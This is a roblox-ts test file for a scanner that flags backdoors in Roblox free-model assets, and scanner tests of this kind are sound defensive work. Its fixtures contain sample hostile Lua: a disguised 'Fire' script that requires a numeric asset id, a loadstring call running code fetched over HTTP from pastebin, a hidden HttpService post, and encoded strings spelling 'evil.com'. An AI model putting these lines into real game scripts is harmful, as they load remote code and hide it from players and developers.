/// <reference types="@rbxts/testez/globals" />
import { HIDDEN_DEPTH, RULE_LABELS, scanAsset, scanSource } from "./asset-scan";
import { ScanFinding } from "../proposals/operation";

function make<T extends keyof CreatableInstances>(
	className: T,
	name: string,
	parent?: Instance,
): CreatableInstances[T] {
	const instance = new Instance(className);
	instance.Name = name;
	instance.Parent = parent;
	return instance;
}

function withSource<T extends "Script" | "LocalScript" | "ModuleScript">(
	className: T,
	name: string,
	parent: Instance,
	source: string,
) {
	const container = make(className, name, parent);
	(container as ModuleScript).Source = source;
	return container;
}

function lines(...list: Array<string>): string {
	return list.join("\n");
}

function rulesOf(findings: ReadonlyArray<ScanFinding>, scriptPath?: string): string {
	const parts = new Array<string>();
	for (const finding of findings) {
		if (scriptPath === undefined || finding.script === scriptPath)
			parts.push(`${finding.rule}@${finding.line}:${finding.severity}`);
	}
	return parts.join(" ");
}

export = () => {
	// Assets arrive unparented from game:GetObjects, so the fixtures stay outside the DataModel.
	let asset: Model;
	beforeEach(() => {
		asset = make("Model", "FreeCar");
	});
	afterEach(() => asset.Destroy());

	it("flags the classic free-model backdoor: a script named like an effect requiring an asset id", () => {
		const handle = make("Part", "Handle", asset);
		withSource("Script", "Fire", handle, lines("-- fire effect", "local id = 4815162342", "require(id):Fire()"));
		const findings = scanAsset([asset]);
		expect(rulesOf(findings)).to.equal("disguised_name@0:warning require_id@3:danger");
		expect(findings[0].script).to.equal("FreeCar/Handle/Fire");
		expect(findings[0].excerpt).to.equal('a Script named "Fire", like a built-in object, inside Part');
		expect(findings[1].excerpt).to.equal("require(id):Fire()");
	});

	it("flags require of a number, a hex number, a parenthesised number, arithmetic and tonumber", () => {
		for (const line of [
			"require(5012345678)",
			"local m = require(0x12AB34)",
			"require((12345678)).load()",
			"require(1000000 + 2345678)",
			'require(tonumber("98765432"))',
		]) {
			expect(rulesOf(scanSource("M", line))).to.equal("require_id@1:danger");
		}
		for (const line of [
			"local Config = require(script.Parent.Config)",
			'local Util = require(game:GetService("ReplicatedStorage").Util)',
		]) {
			expect(rulesOf(scanSource("M", line))).to.equal("");
		}
	});

	it("flags the environment functions and run-time compilation", () => {
		const envGet = "get" + "fenv";
		const envSet = "set" + "fenv";
		const compile = "load" + "string";
		const source = lines(
			`local env = ${envGet}(0)`,
			`${envSet}(1, {})`,
			`${compile}(game:HttpGet("https://pastebin.com/raw/abc"))()`,
		);
		const findings = scanSource("S", source);
		expect(rulesOf(findings)).to.equal(`${envGet}@1:danger ${envSet}@2:danger ${compile}@3:danger http@3:warning`);
		expect(RULE_LABELS[findings[0].rule]).to.equal("reads a function environment (used to hide what the script calls)");
		expect(RULE_LABELS[findings[2].rule]).to.equal("compiles and runs a string as code");
	});

	it("flags encoded strings: escape runs, string.char chains, base64 blobs and byte lists", () => {
		const blob = string.rep("QmFja2Rvb3IgcGF5bG9hZCBoZXJl", 5);
		const source = lines(
			'local url = "\\104\\116\\116\\112\\115\\58\\47\\47\\101\\118\\105\\108"',
			'local hex = "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f"',
			"local name = string.char(114, 101, 113, 117, 105, 114, 101)",
			`local data = "${blob}"`,
			"local bytes = {104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 99, 111, 109}",
			'local short = "\\n\\t" -- ordinary escapes are fine',
			"local sizes = {1, 2, 3}",
		);
		expect(rulesOf(scanSource("S", source))).to.equal(
			"encoded_string@1:danger encoded_string@2:danger encoded_string@3:danger encoded_string@4:warning encoded_string@5:warning",
		);
	});

	it("flags HttpService use, and as danger when the name is split or reversed to hide it", () => {
		const source = lines(
			'local Http = game:GetService("HttpService")',
			'game:GetService("Http" .. "Service"):PostAsync(url, data)',
			'local f = getfenv and nil or ("gnirtsdaol"):reverse()',
		);
		const findings = scanSource("S", source);
		expect(findings[0].rule).to.equal("http");
		expect(findings[0].severity).to.equal("warning");
		expect(findings[1].rule).to.equal("http");
		expect(findings[1].line).to.equal(2);
		expect(findings[1].severity).to.equal("danger");
		expect(findings[1].excerpt.find("hidden by splitting", 1, true)[0]).to.equal(1);
		const reversed = findings.filter(
			(finding) => finding.line === 3 && finding.rule === (("load" + "string") as never),
		);
		expect(reversed.size()).to.equal(1);
		expect(reversed[0].severity).to.equal("danger");
	});

	it("flags scripts hidden deep in the model and default-named scripts inside parts", () => {
		let folder: Instance = asset;
		for (let depth = 1; depth < HIDDEN_DEPTH; depth++) {
			folder = make("Folder", `Level${depth}`, folder);
		}
		withSource("Script", "Helper", folder, "print('hi')");
		const wheel = make("Part", "Wheel", asset);
		withSource("Script", "Script", wheel, "script.Parent.Touched:Connect(function() end)");
		withSource("ModuleScript", "\u{200B}", asset, "return {}");
		const findings = scanAsset([asset]);
		expect(rulesOf(findings, "FreeCar/Level1/Level2/Level3/Level4/Helper")).to.equal("hidden_deep@0:warning");
		expect(rulesOf(findings, "FreeCar/Wheel/Script")).to.equal("disguised_name@0:warning");
		expect(rulesOf(findings, "FreeCar/\u{200B}")).to.equal("disguised_name@0:warning");
	});

	it("finds nothing in an ordinary asset", () => {
		const door = make("Part", "Door", asset);
		withSource(
			"Script",
			"DoorScript",
			door,
			lines(
				'local TweenService = game:GetService("TweenService")',
				'local Config = require(script.Parent.Parent:WaitForChild("Config"))',
				"local OPEN_TIME = 1500",
				'print(string.format("%d", OPEN_TIME))',
				"door.Touched:Connect(function(hit) end)",
			),
		);
		withSource("ModuleScript", "Config", asset, "return { speed = 16, colors = {1, 2, 3} }");
		expect(scanAsset([asset]).size()).to.equal(0);
	});

	it("scans every root, the roots themselves included, in tree order", () => {
		const loose = withSource("Script", "Loose", asset, "require(123456)");
		loose.Parent = undefined;
		const findings = scanAsset([asset, loose]);
		expect(findings.size()).to.equal(1);
		expect(findings[0].script).to.equal("Loose");
		loose.Destroy();
	});

	it("keeps the excerpt short and centred on a match hidden far to the right", () => {
		const source = "-- nothing here" + string.rep(" ", 300) + "require(6666666666)";
		const finding = scanSource("S", source)[0];
		expect(finding.rule).to.equal("require_id");
		expect(finding.excerpt.size() <= 80 + 6).to.equal(true);
		expect(finding.excerpt.find("require(6666666666)", 1, true)[0] !== undefined).to.equal(true);
	});

	it("caps repeats of one rule per script", () => {
		const repeated = new Array<string>();
		for (let i = 1; i <= 10; i++) repeated.push(`require(${1000000 + i})`);
		const findings = scanSource("S", lines(...repeated));
		expect(findings.size()).to.equal(3);
		expect(findings[2].line).to.equal(3);
	});
};
